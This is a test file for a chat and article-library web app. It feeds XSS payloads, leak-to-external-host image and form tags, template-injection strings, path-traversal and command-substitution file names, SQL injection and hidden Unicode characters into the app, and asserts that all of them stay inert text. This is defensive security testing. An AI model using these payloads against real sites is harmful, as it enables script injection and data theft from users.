"""Thirty articles and file names that want to be more than text: none runs, none loads, none links."""

from pathlib import Path
from typing import TYPE_CHECKING

import httpx
import pytest

from rag.chat.uploads import safe_name

from .conftest import Open, Serve, ask

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.timeout(240)
AWAY = "http://203.0.113.7/leak?"
BIDI = "‮evil‬ ⁦hidden⁩"
TEXTS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    f"<img src={AWAY}img>",
    f"![picture]({AWAY}data=secret)",
    f"[link]({AWAY})",
    "[click](javascript:document.title='owned')",
    "<a href=\"javascript:document.title='owned'\">click</a>",
    f"<svg onload=\"fetch('{AWAY}')\"><image href='{AWAY}svg'/></svg>",
    f"<iframe src='{AWAY}frame'></iframe>",
    f"<style>@import url({AWAY}css); body{{display:none}}</style>",
    f'<div style="position:fixed;inset:0;background:url({AWAY}bg)">overlay</div>',
    f"<form action='{AWAY}form'><input name=password><button>Log in</button></form>",
    f"<link rel=stylesheet href={AWAY}link>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}meta'>",
    f"<object data={AWAY}object></object>",
    "</mark></article><script>document.title='owned'</script>",
    '" onmouseover="document.title=\'owned\'" x="',
    "' onfocus='document.title=1' autofocus tabindex=1 '",
    "${document.title='owned'}",
    "{{constructor.constructor('document.title=1')()}}",
    "`${alert(1)}`",
    "{{#each this}}{{@key}}{{/each}}",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "<math><mtext><img src=x onerror=document.title='owned'></mtext></math>",
    f"<video poster={AWAY}poster><source src={AWAY}video></video>",
    BIDI,
    "zero​width⁠joined﻿text",
    "<details open ontoggle=document.title='owned'>x</details>",
    "\U000e0041\U000e0042 tagged",
)
NAMES = (
    "<img src=x onerror=alert(1)>.txt",
    "a[click](javascript:alert(1)).txt",
    "..%2f..%2fetc%2fpasswd.txt",
    "../../../etc/passwd.txt",
    "CON‮txt.exe.txt",
    "$(touch owned).txt",
    '"; DROP TABLE articles; --.txt',
    ".hidden.txt",
    "x" * 5000 + ".txt",
    "nul\x00byte.txt",
)


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Each text as the title and as a sentence of an article; one article has a title of 10,000 characters."""
    folder = tmp_path_factory.mktemp("hostile")
    for number, text in enumerate(TEXTS):
        body = (
            f"title: {text} number {number}\n---\n\nThe keeper of tower {number} wrote {text} on the wall of the tower."
        )
        (folder / f"tower-{number}.txt").write_text(f"---\n{body}\n", encoding="utf-8")
    (folder / "long.txt").write_text(f"---\ntitle: {'Long ' * 2000}\n---\n\nThe long tower has a keeper.\n")
    return folder


def test_no_text_of_an_article_becomes_live(serve: Serve, read: Open, library: Path) -> None:
    page = read(serve(articles=library, hits=30, chat_rate=1000))
    title = page.title()
    page.click(".tabs >> text=Articles")
    page.wait_for_selector(".entries li")
    assert page.locator(".entries li").count() == len(TEXTS) + 1
    for half in (range(15), (*range(15, len(TEXTS)), "long")):
        for number in half:
            ask(page, f"What did the keeper of tower {number} write on the wall of the tower?")
        cite_everything(page)
        nothing_live(page.evaluate(ALIVE))
        page.click("text=New chat")
        page.wait_for_selector(".welcome")
    assert page.title() == title
    page.set_viewport_size({"width": 390, "height": 844})
    assert page.evaluate("document.documentElement.scrollWidth") == 390


def cite_everything(page: "Page") -> None:
    marks = page.locator(".answer .mark")
    assert marks.count() > 15
    for number in range(0, marks.count(), 5):
        marks.nth(number).hover()
        marks.nth(number).click()
        page.wait_for_selector("#source article")


ALIVE = """() => {
  const own = ".turns, .welcome, .source, .library, .narrowed, #chats";
  const bad = "script, img, iframe, object, embed, link, style, base, meta, video, audio, math, a, svg:not(.icon)";
  const set = (element) => [...element.attributes].some((each) => each.name.startsWith("on") || each.name === "style");
  const all = [...document.querySelectorAll(own)].flatMap((block) => [...block.querySelectorAll("*")]);
  return all.filter((each) => each.matches(bad) || set(each)).map((each) => each.outerHTML.slice(0, 200));
}"""


def nothing_live(elements: object) -> None:
    assert elements == []


def test_hidden_and_reordering_characters_are_not_shown(serve: Serve, read: Open, library: Path) -> None:
    page = read(serve(articles=library))
    page.wait_for_selector(".entries li")
    shown = page.inner_text("#library")
    assert not set(shown) & set("‮⁦​⁠﻿\U000e0041")


def test_what_a_user_types_stays_text(serve: Serve, read: Open) -> None:
    page = read(serve())
    for text in TEXTS[:8]:
        ask(page, text)
    assert page.locator(".question").all_inner_texts() == list(TEXTS[:8])
    nothing_live(page.evaluate(ALIVE))
    page.reload()
    page.wait_for_selector(".turn")
    page.click("button[data-event=chats]")
    assert page.inner_text(".popover .name") == TEXTS[0]
    nothing_live(page.evaluate(ALIVE))


@pytest.mark.parametrize("name", NAMES)
def test_file_names_stay_inside_their_folder(name: str) -> None:
    safe = safe_name(name)
    assert "/" not in safe
    assert not set(safe) & set('<>"$;[]‮\x00')
    assert not safe.startswith(".")
    assert safe.endswith(".txt")
    assert len(safe.encode()) <= 120


def test_uploads_with_hostile_names_are_kept_and_shown_as_text(serve: Serve, read: Open) -> None:
    chat = serve()
    for number, name in enumerate(NAMES):
        answer = httpx.post(
            f"{chat.url}/v1/articles",
            params={"name": f"{name[:900]}.txt"},
            content=f"Tower {number} stands.",
            timeout=60,
        )
        assert answer.status_code == 200, name
    inside = {file.parent for file in chat.folder.rglob("*.txt")}
    assert inside == {chat.folder / ".rag-chat" / "uploads"}
    page = read(chat)
    page.wait_for_selector(".entries li")
    nothing_live(page.evaluate(ALIVE))
